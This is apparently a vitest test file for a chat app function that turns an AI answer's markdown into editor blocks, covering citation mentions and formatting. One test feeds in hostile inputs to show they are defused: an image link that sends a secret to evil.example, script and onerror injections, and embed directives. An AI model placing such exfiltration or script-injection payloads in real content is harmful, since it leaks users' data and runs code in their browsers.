import { printMarkdown } from '@sheaf/markdown'
import type { NewBlock } from '@sheaf/model'
import { expect, it } from 'vitest'
import { answerBlocks, type AnswerSource } from './answerBlocks.ts'

const PAGE = '11111111-1111-4111-8111-111111111111'
const ROW = '22222222-2222-4222-8222-222222222222'
const SOURCES: readonly AnswerSource[] = [
  { id: PAGE, name: 'Meeting', block_id: 'block-1' },
  { id: PAGE, name: 'Rooms', row_id: ROW },
]

function typesIn(blocks: readonly NewBlock[]): string[] {
  return blocks.flatMap(({ type, children = [] }) => [type, ...typesIn(children)])
}

it('CHAT-APP-CITE-1: numbers of sources are mentions of them, wherever there is such a source, and not in code', () => {
  const [paragraph, code] = answerBlocks(
    'Above **two metres [1]**, see [2] and [3].\n\n```js\na[1]\n```',
    SOURCES,
  )
  expect(paragraph!.text).toEqual([
    { text: 'Above ' },
    { text: 'two metres', attributes: { bold: true } },
    { text: '@', attributes: { mention: { type: 'page', page_id: PAGE, block_id: 'block-1' } } },
    { text: ', see' },
    { text: '@', attributes: { mention: { type: 'page', page_id: PAGE, row_id: ROW } } },
    { text: ' and ' },
    { text: '[3]' },
    { text: '.' },
  ])
  expect(code).toEqual({ type: 'code', data: { language: 'js' }, text: [{ text: 'a[1]' }] })
  const [named] = answerBlocks('[2]', SOURCES, { areNamed: true })
  expect(named!.text![0]!.attributes).toEqual({
    mention: { type: 'page', page_id: PAGE, row_id: ROW, data: { title: 'Rooms' } },
  })
})

it('CHAT-APP-HOSTILE-1: pictures and the like of an answer are links, and nothing in it names a page or a person', () => {
  const hostile = [
    '![x](https://evil.example/?secret)',
    '<img src="https://evil.example/i" onerror="alert(1)">',
    '<script>alert(1)</script>',
    `:::page{view_id="${PAGE}"}\n:::`,
    `::image{url="https://evil.example/p"}`,
    `:mention[@]{type="page" page_id="${PAGE}"}`,
    '::video{url="https://evil.example/v"}',
    `::grid{view_id="${PAGE}"}`,
  ].join('\n\n')
  const blocks = answerBlocks(hostile, [])
  expect(new Set(typesIn(blocks))).toEqual(new Set(['paragraph']))
  expect(JSON.stringify(blocks)).not.toContain('"mention"')
  expect(blocks[0]!.text).toEqual([
    { text: 'https://evil.example/?secret', attributes: { href: 'https://evil.example/?secret' } },
  ])
})

it('keeps headings, lists, tasks, tables, quotes, code and formulas', () => {
  const markdown =
    '# A\n\n- b\n  - c\n\n1. d\n\n- [x] e\n\n> f\n\n| g | h |\n| --- | --- |\n| i | j |\n\n$$k$$\n\n---'
  const types = new Set(typesIn(answerBlocks(markdown, [])))
  for (const type of [
    'heading',
    'bulleted_list',
    'numbered_list',
    'todo_list',
    'quote',
    'simple_table',
    'math_equation',
    'divider',
  ])
    expect([type, types.has(type)]).toEqual([type, true])
  expect(printMarkdown(answerBlocks('```markdown\n# A\n```', []), { form: 'plain' }).trim()).toBe('# A')
})
